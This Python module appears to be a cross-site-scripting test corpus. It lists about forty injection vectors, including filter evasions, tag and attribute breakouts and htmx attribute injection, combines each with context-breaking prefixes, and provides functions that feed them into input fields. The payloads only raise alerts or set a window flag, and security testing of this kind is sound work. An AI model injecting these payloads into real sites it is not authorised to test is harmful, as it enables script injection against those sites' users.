"""Cross-site-scripting payloads: classic vectors, filter evasions, attribute and tag breakouts,
htmx attribute injection (the site loads htmx), and a vector that only sets a window flag
(`window.__xss`), for pages where a dialog would go unnoticed. Each vector comes raw and after
three context breakers, so every payload is tried in text, attribute and raw-text positions."""

from itertools import count

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x onerror=&#97;lert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template><img src=x onerror=alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>*{background:url('javascript:alert(1)')}</style><img src=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<x onclick=alert(1) id=xss-click>click</x>",
    '<div hx-get="/" hx-trigger="load" hx-on::after-request="alert(1)">htmx</div>',
    '<div hx-on:htmx:load="alert(1)">htmx</div>',
    '<img src=x hx-on:error="alert(1)">',
    "<svg/onload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>d</a>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=window.__xss=1>",
]
BREAKERS = ["", '"><', "'></p></textarea></title></script></style>", "--></code></pre>"]
PAYLOADS = [breaker + vector for breaker in BREAKERS for vector in VECTORS]
CORPUS = "\n".join(PAYLOADS)

_next = count()


def fit(limit: int) -> str:
    """The next payload that fits in `limit` characters (cycling through the corpus)."""
    while True:
        payload = PAYLOADS[next(_next) % len(PAYLOADS)]
        if len(payload) <= limit:
            return payload


def inline(limit: int = 10_000) -> str:
    """Several payloads on one line (for single-line fields), within `limit` characters."""
    parts, size = [], 0
    for payload in PAYLOADS:
        if size + len(payload) + 1 > limit:
            break
        parts.append(payload)
        size += len(payload) + 1
    return " ".join(parts)
